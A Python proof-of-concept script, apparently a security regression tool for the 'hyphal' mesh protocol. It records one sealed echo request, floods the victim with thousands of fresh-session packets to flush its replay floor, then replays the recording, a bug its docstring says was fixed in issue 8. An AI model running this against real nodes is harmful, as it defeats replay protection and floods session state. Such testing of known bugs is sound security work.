"""A neighbour that records one authentic packet, floods the victim's receive-session state,
then replays the recording.

    session_flooder.py HOST VICTIM_PUBKEY_HEX SESSIONS

Key X seals one echo request to the victim and keeps a copy; key Y (the link's own) then sends
SESSIONS authentic echo requests, each in a new session id, as any key holder may; finally the
copy of X's packet is sent again. Before issue 8 the flood flushed X's session and its replay
floor, so the recording was accepted a second time. Prints ``replayed`` at the end.
"""

from __future__ import annotations

import sys

from hyphal.crypto.e2e import E2ECrypto
from hyphal.identity import NodeIdentity
from hyphal.testing.rawlink import RawLink
from hyphal.wire.data import KIND_ECHO_REQUEST
from hyphal.wire.link import FRAME_DATA

PORT = 9651


def main() -> None:
    host, victim, sessions = sys.argv[1], bytes.fromhex(sys.argv[2]), int(sys.argv[3])
    link = RawLink(host, PORT)
    recorded = bytes(E2ECrypto(NodeIdentity.generate()).seal(victim, KIND_ECHO_REQUEST, b"once"))
    link.send_frame(FRAME_DATA, recorded)
    flooder = E2ECrypto(link.identity)
    for i in range(sessions):
        flooder._new_session()  # a fresh session id, as a restart would give
        link.send_frame(FRAME_DATA, bytes(flooder.seal(victim, KIND_ECHO_REQUEST, b"x")))
        if i % 500 == 0:
            link.keep_alive()
    link.send_frame(FRAME_DATA, recorded)
    link.keep_alive()
    link.wait_closed(2.0)
    link.close()
    print("replayed", flush=True)


if __name__ == "__main__":
    main()
